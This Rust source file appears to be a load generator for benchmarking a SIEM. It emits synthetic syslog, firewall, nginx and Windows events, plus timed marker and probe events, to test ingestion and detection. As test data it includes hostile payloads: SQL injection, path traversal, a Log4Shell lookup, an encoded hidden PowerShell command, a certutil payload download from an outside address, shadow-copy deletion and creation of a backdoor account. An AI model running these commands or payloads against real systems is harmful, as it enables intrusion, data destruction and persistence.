//! The traffic mix: syslog messages as an MSP's client networks send them,
//! each one a complete message ready to be octet-counted.
//!
//! | share | source | format |
//! | ---: | --- | --- |
//! | 30 % | sshd: accepted, failed, invalid user, preauth disconnects | RFC 5424 (rsyslog forwarding) or RFC 3164, half each |
//! | 12 % | kernel: UFW and iptables LOG lines | RFC 5424 / RFC 3164 |
//! | 10 % | Cisco ASA: 106023/106001 denies, 302013/302014 | RFC 3164 with a `%ASA-` message |
//! | 28 % | nginx access log, ~3 % of them attack-looking URLs | RFC 5424 |
//! | 20 % | Windows events as JSON (Winlogbeat shape): 4624, 4625, 4688 | RFC 5424, app `winlogbeat` |
//!
//! About 1 % of the 4688 events run command lines that SigmaHQ rules flag
//! (`powershell -enc`, `whoami /priv`, `certutil -urlcache`...).
//!
//! Two kinds of special events, each with a unique number:
//! - markers: a line carrying `bench_marker=<run>m<n>`, to time send → searchable;
//! - probes: an attack from a host named `benchhost-<run>-<n>` that no
//!   other event uses, to time send → alert: an sshd brute force (failed
//!   passwords from one address, then a success) or a Windows 4688
//!   `whoami /priv`.

use chrono::{DateTime, SecondsFormat, Utc};
use rand::rngs::StdRng;
use rand::Rng;
use std::fmt::Write as _;

const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
    "oscar", "peggy", "trent", "victor", "walter", "deploy", "backup", "ansible", "jenkins",
];
/// Names brute-forcers try.
const INVALID_USERS: &[&str] = &[
    "admin", "test", "oracle", "ubuntu", "user", "guest", "postgres", "ftpuser", "pi", "support",
];
const LINUX_HOSTS: u32 = 40;
const WIN_HOSTS: u32 = 30;
const ASA_HOSTS: u32 = 3;
const WEB_HOSTS: u32 = 6;

const NGINX_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/api/v1/orders",
    "/api/v1/orders/1842",
    "/api/v1/customers?page=2",
    "/static/app.3f9c1.js",
    "/static/style.css",
    "/login",
    "/health",
    "/images/logo.png",
];
const NGINX_ATTACKS: &[&str] = &[
    "/download.php?file=../../../../etc/passwd",
    "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=1' UNION SELECT NULL,NULL,version()--",
    "/.env",
    "/wp-login.php",
    "/cgi-bin/../../../../bin/sh",
    "/?x=${jndi:ldap://198.51.100.23:1389/a}",
    "/phpmyadmin/index.php",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "kube-probe/1.29",
];
const ATTACK_AGENTS: &[&str] = &[
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "zgrab/0.x",
];

/// Ordinary process creations (4688).
const PROCESSES: &[(&str, &str)] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer"#,
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe"),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "dir C:\Users""#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
    ),
];
/// Process creations SigmaHQ rules flag.
const SUSPICIOUS: &[(&str, &str)] = &[
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (r"C:\Windows\System32\whoami.exe", "whoami /priv"),
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\\Users\\Public\\a.exe"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\net.exe", "net user backdoor P@ssw0rd! /add"),
];

/// What to send as an alert probe.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum ProbeKind {
    /// sshd: failed passwords from one address, then an accepted one.
    Ssh,
    /// Windows 4688: `whoami /priv`.
    Whoami,
    /// Alternate the two.
    Mixed,
}

/// One connection's pre-generated traffic, cut into chunks written with
/// one `write_all` each.
#[derive(Default)]
pub struct Chunk {
    pub bytes: Vec<u8>,
    pub events: u64,
    pub markers: Vec<u32>,
    pub probes: Vec<u32>,
}

pub struct Gen<'a> {
    pub rng: StdRng,
    pub run: &'a str,
    pub now: DateTime<Utc>,
    pub brute_force_attempts: u32,
    /// Reused scratch buffer for one message.
    msg: String,
}

impl<'a> Gen<'a> {
    pub fn new(rng: StdRng, run: &'a str, brute_force_attempts: u32) -> Self {
        Gen {
            rng,
            run,
            now: Utc::now(),
            brute_force_attempts,
            msg: String::with_capacity(1024),
        }
    }

    /// The host name of probe `n`.
    pub fn probe_host(run: &str, n: u32) -> String {
        format!("benchhost-{run}-{n}")
    }

    /// The marker token of marker `n`.
    pub fn marker(run: &str, n: u32) -> String {
        format!("bench_marker={run}m{n}")
    }

    fn frame(&mut self, out: &mut Chunk) {
        // RFC 6587 octet counting: LEN SP MSG.
        let _ = write!(Bytes(&mut out.bytes), "{} ", self.msg.len());
        out.bytes.extend_from_slice(self.msg.as_bytes());
        out.events += 1;
    }

    fn ts5424(&self) -> String {
        self.now.to_rfc3339_opts(SecondsFormat::Micros, true)
    }

    fn ts3164(&self) -> String {
        self.now.format("%b %e %H:%M:%S").to_string()
    }

    fn ip_external(&mut self) -> String {
        let r = &mut self.rng;
        match r.gen_range(0..3) {
            0 => format!("203.0.113.{}", r.gen_range(1..255)),
            1 => format!("198.51.100.{}", r.gen_range(1..255)),
            _ => format!(
                "{}.{}.{}.{}",
                r.gen_range(11..223),
                r.gen_range(0..256),
                r.gen_range(0..256),
                r.gen_range(1..255)
            ),
        }
    }

    fn ip_internal(&mut self) -> String {
        let r = &mut self.rng;
        format!(
            "10.{}.{}.{}",
            r.gen_range(0..4),
            r.gen_range(0..16),
            r.gen_range(2..250)
        )
    }

    /// Starts `self.msg` with a syslog header: RFC 5424 or RFC 3164.
    fn header(&mut self, rfc5424: bool, pri: u8, host: &str, app: &str, pid: u32) {
        self.msg.clear();
        if rfc5424 {
            let ts = self.ts5424();
            let _ = write!(self.msg, "<{pri}>1 {ts} {host} {app} {pid} - - ");
        } else {
            let ts = self.ts3164();
            let _ = write!(self.msg, "<{pri}>{ts} {host} {app}[{pid}]: ");
        }
    }

    /// One ordinary event of the mix.
    pub fn event(&mut self, out: &mut Chunk) {
        let roll = self.rng.gen_range(0..100);
        match roll {
            0..=29 => self.sshd(out),
            30..=41 => self.kernel_firewall(out),
            42..=51 => self.asa(out),
            52..=79 => self.nginx(out),
            _ => self.windows(out),
        }
    }

    fn sshd(&mut self, out: &mut Chunk) {
        let host = format!("srv-{:02}", self.rng.gen_range(0..LINUX_HOSTS));
        let pid = self.rng.gen_range(1000..60000);
        let rfc5424 = self.rng.gen_bool(0.5);
        let user = USERS[self.rng.gen_range(0..USERS.len())];
        let port = self.rng.gen_range(1024..65535);
        let roll = self.rng.gen_range(0..100);
        // Logins come from inside; failures mostly from outside.
        let (text, pri) = match roll {
            0..=34 => {
                let ip = self.ip_internal();
                if self.rng.gen_bool(0.7) {
                    (format!("Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:Zx3v8mJ0f7bq0S9kF2uE1nPqA7yW4cD6hR5tL8oM2gI"), 38)
                } else {
                    (
                        format!("Accepted password for {user} from {ip} port {port} ssh2"),
                        38,
                    )
                }
            }
            35..=49 => {
                let ip = self.ip_external();
                (
                    format!("Failed password for {user} from {ip} port {port} ssh2"),
                    38,
                )
            }
            50..=64 => {
                let ip = self.ip_external();
                let bad = INVALID_USERS[self.rng.gen_range(0..INVALID_USERS.len())];
                if self.rng.gen_bool(0.5) {
                    (format!("Invalid user {bad} from {ip} port {port}"), 38)
                } else {
                    (
                        format!(
                            "Failed password for invalid user {bad} from {ip} port {port} ssh2"
                        ),
                        38,
                    )
                }
            }
            65..=79 => {
                let ip = self.ip_external();
                (format!("Connection closed by authenticating user {user} {ip} port {port} [preauth]"), 38)
            }
            80..=89 => {
                let ip = self.ip_external();
                (
                    format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                    38,
                )
            }
            _ => {
                let ip = self.ip_internal();
                (
                    format!("Disconnected from user {user} {ip} port {port}"),
                    38,
                )
            }
        };
        self.header(rfc5424, pri, &host, "sshd", pid);
        self.msg.push_str(&text);
        self.frame(out);
    }

    fn kernel_firewall(&mut self, out: &mut Chunk) {
        let host = format!("gw-{:02}", self.rng.gen_range(0..LINUX_HOSTS / 4));
        let rfc5424 = self.rng.gen_bool(0.5);
        let src = self.ip_external();
        let dst = self.ip_internal();
        let (proto, dpt) = match self.rng.gen_range(0..10) {
            0..=5 => (
                "TCP",
                [22u16, 23, 445, 3389, 5900, 8080][self.rng.gen_range(0..6)],
            ),
            6..=8 => ("UDP", [53u16, 123, 161, 1900][self.rng.gen_range(0..4)]),
            _ => ("ICMP", 0),
        };
        let prefix = if self.rng.gen_bool(0.6) {
            "[UFW BLOCK] "
        } else {
            "IPTABLES-DROP: "
        };
        let up = self.rng.gen_range(1000..9_000_000);
        let len = self.rng.gen_range(40..1500);
        let ttl = self.rng.gen_range(30..128);
        let id = self.rng.gen_range(1..65535);
        let spt = self.rng.gen_range(1024..65535);
        let ports = if proto == "ICMP" {
            "TYPE=8 CODE=0 ID=4242 SEQ=1".to_string()
        } else {
            format!("SPT={spt} DPT={dpt} WINDOW=29200 RES=0x00 SYN URGP=0")
        };
        // The kernel has no pid; RFC 3164 lines read `kernel: ...`.
        self.msg.clear();
        if rfc5424 {
            let _ = write!(self.msg, "<4>1 {} {host} kernel - - - ", self.ts5424());
        } else {
            let _ = write!(self.msg, "<4>{} {host} kernel: ", self.ts3164());
        }
        let _ = write!(
            self.msg,
            "[{}.{:06}] {prefix}IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 \
             SRC={src} DST={dst} LEN={len} TOS=0x00 PREC=0x00 TTL={ttl} ID={id} DF PROTO={proto} {ports}",
            up / 1000,
            up % 1000 * 1000
        );
        self.frame(out);
    }

    fn asa(&mut self, out: &mut Chunk) {
        let host = format!("asa-fw-{:02}", self.rng.gen_range(0..ASA_HOSTS));
        let src = self.ip_external();
        let dst = self.ip_internal();
        let spt = self.rng.gen_range(1024..65535);
        let dpt = [22u16, 23, 80, 443, 445, 1433, 3389][self.rng.gen_range(0..7)];
        let conn = self.rng.gen_range(100_000..9_999_999);
        let (pri, text) = match self.rng.gen_range(0..10) {
            0..=4 => (
                164,
                format!(
                    "%ASA-4-106023: Deny tcp src outside:{src}/{spt} dst inside:{dst}/{dpt} by access-group \"outside_access_in\" [0x0, 0x0]"
                ),
            ),
            5..=6 => (
                162,
                format!(
                    "%ASA-2-106001: Inbound TCP connection denied from {src}/{spt} to {dst}/{dpt} flags SYN  on interface outside"
                ),
            ),
            7..=8 => (
                166,
                format!(
                    "%ASA-6-302013: Built inbound TCP connection {conn} for outside:{src}/{spt} ({src}/{spt}) to inside:{dst}/{dpt} ({dst}/{dpt})"
                ),
            ),
            _ => (
                166,
                format!(
                    "%ASA-6-302014: Teardown TCP connection {conn} for outside:{src}/{spt} to inside:{dst}/{dpt} duration 0:00:{:02} bytes {} TCP FINs",
                    self.rng.gen_range(0..60),
                    self.rng.gen_range(40..200_000)
                ),
            ),
        };
        // ASA with `logging device-id hostname`: RFC 3164, no tag.
        self.msg.clear();
        let _ = write!(self.msg, "<{pri}>{} {host} {text}", self.ts3164());
        self.frame(out);
    }

    fn nginx(&mut self, out: &mut Chunk) {
        let host = format!("web-{:02}", self.rng.gen_range(0..WEB_HOSTS));
        let attack = self.rng.gen_bool(0.03);
        let (ip, path, agent, status) = if attack {
            (
                self.ip_external(),
                NGINX_ATTACKS[self.rng.gen_range(0..NGINX_ATTACKS.len())],
                ATTACK_AGENTS[self.rng.gen_range(0..ATTACK_AGENTS.len())],
                [400u16, 403, 404, 404, 500][self.rng.gen_range(0..5)],
            )
        } else {
            (
                self.ip_external(),
                NGINX_PATHS[self.rng.gen_range(0..NGINX_PATHS.len())],
                AGENTS[self.rng.gen_range(0..AGENTS.len())],
                [200u16, 200, 200, 200, 200, 200, 304, 301, 404, 502][self.rng.gen_range(0..10)],
            )
        };
        let method = if path.starts_with("/login") && self.rng.gen_bool(0.5) {
            "POST"
        } else {
            "GET"
        };
        let bytes = self.rng.gen_range(0..40_000);
        let clf = self.now.format("%d/%b/%Y:%H:%M:%S +0000").to_string();
        let pid = self.rng.gen_range(100..5000);
        self.header(true, 190, &host, "nginx", pid);
        let _ = write!(
            self.msg,
            "{ip} - - [{clf}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\""
        );
        self.frame(out);
    }

    fn windows(&mut self, out: &mut Chunk) {
        let host = format!("WS-{:04}", self.rng.gen_range(0..WIN_HOSTS));
        let user = USERS[self.rng.gen_range(0..USERS.len())];
        match self.rng.gen_range(0..10) {
            0..=3 => {
                let ip = self.ip_internal();
                let data = format!(
                    "\"TargetUserName\":\"{user}\",\"TargetDomainName\":\"ACME\",\"LogonType\":\"{}\",\"IpAddress\":\"{ip}\",\"IpPort\":\"{}\",\"WorkstationName\":\"{host}\",\"AuthenticationPackageName\":\"Kerberos\"",
                    [2, 3, 3, 10][self.rng.gen_range(0..4)],
                    self.rng.gen_range(1024..65535)
                );
                let computer = format!("{host}.acme.local");
                self.winlog(&host, &computer, 4624, "Logon", "success", &data, out);
            }
            4..=5 => {
                let ip = self.ip_external();
                let data = format!(
                    "\"TargetUserName\":\"{user}\",\"TargetDomainName\":\"ACME\",\"LogonType\":\"3\",\"IpAddress\":\"{ip}\",\"IpPort\":\"0\",\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc000006a\",\"FailureReason\":\"%%2313\"",
                );
                let computer = format!("{host}.acme.local");
                self.winlog(&host, &computer, 4625, "Logon", "failure", &data, out);
            }
            _ => {
                let (image, cmd) = if self.rng.gen_bool(0.01) {
                    SUSPICIOUS[self.rng.gen_range(0..SUSPICIOUS.len())]
                } else {
                    PROCESSES[self.rng.gen_range(0..PROCESSES.len())]
                };
                let computer = format!("{host}.acme.local");
                self.process(&host, &computer, user, image, cmd, out);
            }
        }
    }

    /// A 4688; `computer` is `winlog.computer_name`.
    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        host: &str,
        computer: &str,
        user: &str,
        image: &str,
        cmd: &str,
        out: &mut Chunk,
    ) {
        let data = format!(
            "\"SubjectUserName\":\"{user}\",\"SubjectDomainName\":\"ACME\",\"NewProcessName\":{},\"CommandLine\":{},\"ParentProcessName\":{},\"NewProcessId\":\"0x{:x}\",\"TokenElevationType\":\"%%1936\"",
            json_str(image),
            json_str(cmd),
            json_str(r"C:\Windows\System32\cmd.exe"),
            self.rng.gen_range(0x100..0xffff)
        );
        self.winlog(
            host,
            computer,
            4688,
            "Process Creation",
            "success",
            &data,
            out,
        );
    }

    /// A Winlogbeat-shaped event as the JSON message of an RFC 5424 line.
    #[allow(clippy::too_many_arguments)]
    fn winlog(
        &mut self,
        host: &str,
        computer: &str,
        id: u32,
        task: &str,
        outcome: &str,
        data: &str,
        out: &mut Chunk,
    ) {
        let record = self.rng.gen_range(1_000_000..9_999_999u32);
        let ts = self.now.to_rfc3339_opts(SecondsFormat::Millis, true);
        self.header(true, 14, host, "winlogbeat", 4242);
        let _ = write!(
            self.msg,
            "{{\"@timestamp\":\"{ts}\",\"host\":{{\"name\":\"{host}\"}},\"agent\":{{\"type\":\"winlogbeat\"}},\
             \"event\":{{\"code\":\"{id}\",\"provider\":\"Microsoft-Windows-Security-Auditing\",\"outcome\":\"{outcome}\"}},\
             \"winlog\":{{\"channel\":\"Security\",\"provider_name\":\"Microsoft-Windows-Security-Auditing\",\
             \"event_id\":{id},\"computer_name\":\"{computer}\",\"record_id\":{record},\"task\":\"{task}\",\
             \"event_data\":{{{data}}}}}}}"
        );
        self.frame(out);
    }

    /// Marker `n`: an application line carrying the marker token.
    pub fn marker_event(&mut self, n: u32, out: &mut Chunk) {
        let token = Self::marker(self.run, n);
        self.header(true, 13, "vigil-bench", "bench", 1);
        let _ = write!(self.msg, "{token} freshness probe");
        self.frame(out);
        out.markers.push(n);
    }

    /// What probe `n` is: `Mixed` alternates, ssh first.
    pub fn probe_kind(kind: ProbeKind, n: u32) -> ProbeKind {
        match kind {
            ProbeKind::Mixed if n & 1 == 0 => ProbeKind::Ssh,
            ProbeKind::Mixed => ProbeKind::Whoami,
            k => k,
        }
    }

    /// Probe `n`: an attack from a host of its own.
    pub fn probe(&mut self, n: u32, kind: ProbeKind, out: &mut Chunk) {
        let host = Self::probe_host(self.run, n);
        match Self::probe_kind(kind, n) {
            ProbeKind::Whoami => {
                // `computer_name` is the bare host name here, so that the
                // alert's host entity is exactly `host` whichever of
                // `host.name` and `computer_name` the server takes.
                self.process(
                    &host,
                    &host,
                    "mallory",
                    r"C:\Windows\System32\whoami.exe",
                    "whoami /priv",
                    out,
                );
            }
            _ => {
                let ip = format!("192.0.2.{}", n % 250 + 1);
                let pid = 30000 + n % 30000;
                for i in 0..self.brute_force_attempts {
                    let port = 40000 + i;
                    self.header(true, 38, &host, "sshd", pid + i);
                    let _ = write!(
                        self.msg,
                        "Failed password for root from {ip} port {port} ssh2"
                    );
                    self.frame(out);
                }
                self.header(true, 38, &host, "sshd", pid + self.brute_force_attempts);
                let _ = write!(
                    self.msg,
                    "Accepted password for root from {ip} port {} ssh2",
                    40000 + self.brute_force_attempts
                );
                self.frame(out);
            }
        }
        out.probes.push(n);
    }
}

/// `std::fmt::Write` over a byte vector.
struct Bytes<'a>(&'a mut Vec<u8>);

impl std::fmt::Write for Bytes<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        self.0.extend_from_slice(s.as_bytes());
        Ok(())
    }
}

/// A JSON string literal.
fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}
